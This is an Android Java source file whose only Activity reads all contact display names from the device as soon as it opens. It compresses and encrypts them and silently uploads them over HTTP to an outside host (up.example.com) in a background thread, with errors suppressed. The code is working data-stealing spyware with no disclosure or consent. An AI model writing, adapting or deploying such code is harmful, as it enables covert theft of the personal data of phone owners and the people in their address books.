package p;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;
import java.security.GeneralSecurityException;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        final String names = names();
        new Thread(new Runnable() {
            @Override
            public void run() {
                try {
                    upload(Pack.encrypt(Pack.gzip(names.getBytes())));
                } catch (IOException | GeneralSecurityException error) {
                    return;
                }
            }
        }).start();
    }

    private String names() {
        StringBuilder names = new StringBuilder();
        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (cursor.moveToNext()) {
            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append('\n');
        }
        cursor.close();
        return names.toString();
    }

    static void upload(byte[] packed) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL("http://up.example.com/c").openConnection();
        connection.setDoOutput(true);
        connection.getOutputStream().write(packed);
        connection.getResponseCode();
    }
}
